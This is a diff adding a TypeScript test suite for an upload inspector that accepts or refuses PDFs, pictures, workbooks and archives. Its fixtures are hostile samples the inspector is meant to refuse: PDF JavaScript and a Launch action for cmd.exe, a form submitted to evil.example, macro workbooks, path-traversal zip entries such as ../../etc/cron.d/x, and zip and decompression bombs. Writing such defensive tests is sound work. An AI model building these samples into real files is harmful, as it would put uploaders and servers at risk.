@@ -1,0 +1,239 @@
+import { deflateSync } from 'node:zlib'
+import { type Zippable, zipSync } from 'fflate'
+import { describe, expect, it } from 'vitest'
+import { Refusal } from '../refusal.ts'
+import { writeSheetBytes, xlsxMediaType } from '../spreadsheet/write-sheet.ts'
+import { inspectFile } from './inspect-file.ts'
+
+const text = (words: string) => Buffer.from(words, 'latin1')
+const zipOf = (...names: string[]) => zipSync(Object.fromEntries(names.map((name) => [name, text('x')])))
+
+/** A PDF of these objects, as a hand would write it. */
+const pdf = (...objects: string[]) => text(`%PDF-1.7\n${objects.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF\n`)
+
+/** Objects packed into a stream, as most programs of today write them. */
+function packedObjects(inside: string, dictionary = '/Filter/FlateDecode'): Buffer {
+  const data = deflateSync(text(inside))
+  return Buffer.concat([
+    text(`%PDF-1.7\n5 0 obj\n<</Type/ObjStm/N 1/First 4${dictionary}/Length ${data.length}>>stream\r\n`),
+    data,
+    text('\nendstream\nendobj\n%%EOF\n'),
+  ])
+}
+
+function png(width: number, height: number, { isWhole = true } = {}): Buffer {
+  const chunk = (name: string, data: Buffer) => {
+    const length = Buffer.alloc(4)
+    length.writeUInt32BE(data.length)
+    return Buffer.concat([length, text(name), data, Buffer.alloc(4)])
+  }
+  const head = Buffer.alloc(13)
+  head.writeUInt32BE(width, 0)
+  head.writeUInt32BE(height, 4)
+  const parts = [text('\x89PNG\r\n\x1a\n'), chunk('IHDR', head), chunk('IDAT', Buffer.alloc(40))]
+  return Buffer.concat(isWhole ? [...parts, chunk('IEND', Buffer.alloc(0))] : parts)
+}
+
+function jpeg(width: number, height: number, { isWhole = true } = {}): Buffer {
+  const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0])
+  frame.writeUInt16BE(height, 5)
+  frame.writeUInt16BE(width, 7)
+  const location = Buffer.from([0xff, 0xe1, 0, 10, ...text('Exif\0\0GP')])
+  const data = Buffer.from([0xff, 0xda, 0, 3, 1, 0x12, 0x34, 0xff, 0x00, 0x56])
+  return Buffer.concat([
+    Buffer.from([0xff, 0xd8]),
+    location,
+    frame,
+    data,
+    isWhole ? Buffer.from([0xff, 0xd9]) : Buffer.alloc(0),
+  ])
+}
+
+/** An old workbook as far as it is looked at: the container's mark, then what lies in its sectors. */
+const xls = (...inside: Buffer[]) =>
+  Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512), ...inside])
+const sheetRecord = (kind: number, name = 'Sheet1') =>
+  Buffer.from([0x85, 0, 8 + name.length, 0, 0x10, 0, 0, 0, 0, kind, name.length, 0, ...text(name)])
+
+const workbook = (rows: readonly string[] = ['王伟']) =>
+  writeSheetBytes({
+    name: '花名册',
+    columns: [{ heading: '姓名', kind: 'text' as const, value: (row: string) => row }],
+    rows,
+  })
+
+function refusalOf(name: string, bytes: Uint8Array): string {
+  try {
+    return `taken as ${inspectFile(name, bytes)}`
+  } catch (error) {
+    if (error instanceof Refusal) return error.code
+    throw error
+  }
+}
+
+describe('a file whose name and bytes agree', () => {
+  it('is known by its kind', async () => {
+    const taken: [string, Uint8Array, string][] = [
+      ['营业执照.pdf', pdf('1 0 obj<</Type/Catalog>>endobj'), 'application/pdf'],
+      ['扫描件', pdf('1 0 obj<</Type/Catalog>>endobj'), 'application/pdf'],
+      ['照片.PNG', png(800, 600), 'image/png'],
+      ['照片.jpg', jpeg(4000, 3000), 'image/jpeg'],
+      ['照片.jpeg', jpeg(1, 1), 'image/jpeg'],
+      ['花名册.xlsx', await workbook(), xlsxMediaType],
+      ['老花名册.xls', xls(sheetRecord(0)), 'application/vnd.ms-excel'],
+      ['花名册.csv', Buffer.from('姓名,身份证号码\n'), 'text/csv'],
+      ['花名册.tsv', Buffer.from('\ufeff姓名\t岗位\n', 'utf16le'), 'text/csv'],
+      ['说明.txt', Buffer.from('说明'), 'text/csv'],
+      ['回盘.xml', text('<?xml version="1.0"?><Document/>'), 'application/xml'],
+      ['材料.zip', zipOf('承诺书.pdf', '照片/1.jpg'), 'application/zip'],
+    ]
+    for (const [name, bytes, kind] of taken)
+      expect({ name, kind: refusalOf(name, bytes) }).toEqual({ name, kind: `taken as ${kind}` })
+  })
+
+  it('keeps what a phone wrote into a photograph, and more behind its end', () => {
+    expect(refusalOf('视频照片.jpg', Buffer.concat([jpeg(4000, 3000), text('ftypmp42 and more')]))).toBe(
+      'taken as image/jpeg',
+    )
+  })
+})
+
+describe('a file that is something else', () => {
+  it.each([
+    ['承诺书.pdf', Buffer.from('<!doctype html><script>alert(1)</script>')],
+    ['承诺书.pdf', jpeg(10, 10)],
+    ['照片.jpg', pdf()],
+    ['照片.png', jpeg(10, 10)],
+    ['花名册.xlsx', Buffer.from('姓名,身份证号码\n')],
+    ['花名册.xlsx', zipOf('[Content_Types].xml', 'word/document.xml')],
+    ['花名册.csv', zipOf('a.txt')],
+    ['花名册.csv', Buffer.from([0x4d, 0x5a, 0x90, 0x00])],
+    ['材料.zip', zipOf('[Content_Types].xml', 'xl/workbook.xml')],
+    ['空.pdf', new Uint8Array()],
+  ])('than %s says is refused by both', (name, bytes) => {
+    expect(refusalOf(name, bytes)).toBe('platform.file-differs-from-name')
+  })
+
+  it.each([
+    ['工具.exe', Buffer.from([0x4d, 0x5a])],
+    ['页面.html', Buffer.from('<!doctype html>')],
+    ['图.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
+    ['动图.gif', Buffer.from('GIF89a')],
+    ['带宏.xlsm', zipOf('xl/workbook.xml')],
+    ['说明.docx', zipOf('word/document.xml')],
+    ['程序.jar', zipOf('META-INF/MANIFEST.MF')],
+    ['承诺书.pdf.exe', pdf()],
+    ['没有后缀', Buffer.from('姓名')],
+    ['没有后缀', new Uint8Array()],
+  ])('of no kind that is taken is refused: %s', (name, bytes) => {
+    expect(refusalOf(name, bytes)).toBe('platform.file-kind-not-taken')
+  })
+})
+
+describe('a PDF', () => {
+  it.each([
+    ['a script', pdf('2 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj')],
+    ['a script whose name is written with escapes', pdf('2 0 obj<</S/J#61vaScrip#74/JS 3 0 R>>endobj')],
+    ['an action that starts a program', pdf('2 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
+    ['a file inside', pdf('2 0 obj<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream endobj')],
+    ['a form that is sent away', pdf('2 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj')],
+    ['media', pdf('2 0 obj<</Subtype/RichMedia>>endobj')],
+    ['a script among packed objects', packedObjects('2 0 <</S/JavaScript/JS(x)>>')],
+    [
+      'a script that looks like the data of a picture',
+      pdf('2 0 obj<</Length 60>>stream\n9 0 obj<</S/JavaScript/JS(x)>>endobj\nendstream endobj'),
+    ],
+  ])('with %s is refused', (_, bytes) => {
+    expect(refusalOf('协议.pdf', bytes)).toBe('platform.file-carries-program')
+  })
+
+  it.each([
+    ['closed by a password', pdf('2 0 obj<</Filter/Standard/V 2>>endobj trailer<</Encrypt 2 0 R>>')],
+    ['packed twice', packedObjects('x', '/Filter[/ASCII85Decode/FlateDecode]')],
+    ['packed with a predictor', packedObjects('x', '/Filter/FlateDecode/DecodeParms<</Predictor 12>>')],
+    ['whose packed objects swell', packedObjects('0'.repeat(80 * 1024 * 1024))],
+    ['whose packed objects are none', text('%PDF-1.7\n<</Type/ObjStm/Filter/FlateDecode>>stream\nnothing')],
+  ])('%s cannot be inspected', (_, bytes) => {
+    expect(refusalOf('协议.pdf', bytes)).toBe('platform.file-not-inspectable')
+  })
+
+  it('with packed objects that do nothing is taken, also a large one within a second', () => {
+    expect(refusalOf('a.pdf', packedObjects('2 0 <</Type/Page/Parent 1 0 R>>'))).toBe(
+      'taken as application/pdf',
+    )
+    const scan = Buffer.concat([
+      text('%PDF-1.7\n'),
+      Buffer.alloc(49 * 1024 * 1024, '/J#ObjStm obj '),
+      text('%%EOF'),
+    ])
+    const begun = performance.now()
+    expect(refusalOf('大.pdf', scan)).toMatch(/taken|not-inspectable/)
+    expect(performance.now() - begun).toBeLessThan(5000)
+  })
+})
+
+describe('a picture', () => {
+  it.each([
+    ['cut.png', png(800, 600, { isWhole: false })],
+    ['empty.png', png(0, 600)],
+    ['cut.jpg', jpeg(800, 600, { isWhole: false })],
+    ['noise.jpg', Buffer.from([0xff, 0xd8, 0xff, 1, 2, 3, 4, 5, 6, 7])],
+  ])('that nobody could look at is refused: %s', (name, bytes) => {
+    expect(refusalOf(name, bytes)).toBe('platform.file-not-inspectable')
+  })
+
+  it('that swells in whoever opens it is refused', () => {
+    expect(refusalOf('p.png', png(10_000, 10_000))).toBe('taken as image/png')
+    expect(refusalOf('p.png', png(10_000, 10_001))).toBe('platform.picture-too-large')
+    expect(refusalOf('p.jpg', jpeg(65_500, 65_500))).toBe('platform.picture-too-large')
+    const heavy = Buffer.concat([jpeg(10, 10), Buffer.alloc(20 * 1024 * 1024)])
+    expect(refusalOf('p.jpg', heavy)).toBe('platform.picture-too-large')
+  })
+})
+
+describe('a workbook', () => {
+  it.each([
+    ['带宏.xlsx', zipOf('xl/workbook.xml', 'xl/vbaProject.bin')],
+    ['带宏.xlsx', zipOf('xl/workbook.xml', 'xl/macrosheets/sheet1.xml')],
+    ['控件.xlsx', zipOf('xl/workbook.xml', 'xl/activeX/activeX1.bin')],
+    ['对象.xlsx', zipOf('xl/workbook.xml', 'xl/embeddings/oleObject1.bin')],
+    ['带宏.xls', xls(sheetRecord(0), Buffer.from('_VBA_PROJECT_CUR', 'utf16le'))],
+    ['老宏.xls', xls(sheetRecord(0), sheetRecord(1, 'Macro1'))],
+  ])('that runs something is refused: %s', (name, bytes) => {
+    expect(refusalOf(name, bytes)).toBe('platform.file-carries-program')
+  })
+
+  it('that looks elsewhere for its cells is taken: nothing of ours follows it there', () => {
+    const linked = zipOf('xl/workbook.xml', 'xl/externalLinks/externalLink1.xml')
+    expect(refusalOf('带外部链接.xlsx', linked)).toBe(`taken as ${xlsxMediaType}`)
+  })
+})
+
+describe('an archive', () => {
+  const bomb = (bytes: number): Zippable => ({ '花名册.csv': Buffer.alloc(bytes) })
+
+  it.each([
+    ['a program', zipOf('说明.txt', '工具/setup.EXE'), 'platform.file-carries-program'],
+    ['a page', zipOf('a.html'), 'platform.file-carries-program'],
+    ['another archive', zipOf('a/b.zip'), 'platform.file-not-inspectable'],
+    ['a name that climbs out', zipOf('../../etc/cron.d/x'), 'platform.file-not-inspectable'],
+    ['a name from the root', zipOf('/etc/passwd'), 'platform.file-not-inspectable'],
+    ['a name of another drive', zipOf('C:\\windows\\x'), 'platform.file-not-inspectable'],
+    ['what swells a thousandfold', zipSync(bomb(40 * 1024 * 1024)), 'platform.file-not-inspectable'],
+    [
+      'too many files',
+      zipOf(...Array.from({ length: 2001 }, (_, n) => `${n}.txt`)),
+      'platform.file-not-inspectable',
+    ],
+    ['no end', zipOf('a.txt').subarray(0, 60), 'platform.file-not-inspectable'],
+  ])('with %s is refused', (_, bytes, code) => {
+    expect(refusalOf('材料.zip', bytes)).toBe(code)
+  })
+
+  it('with a password cannot be inspected', () => {
+    const closed = Buffer.from(zipOf('a.txt'))
+    const entry = closed.indexOf('PK\x01\x02', 'latin1')
+    closed.writeUInt16LE(1, entry + 8)
+    expect(refusalOf('材料.zip', closed)).toBe('platform.file-not-inspectable')
+  })
+})
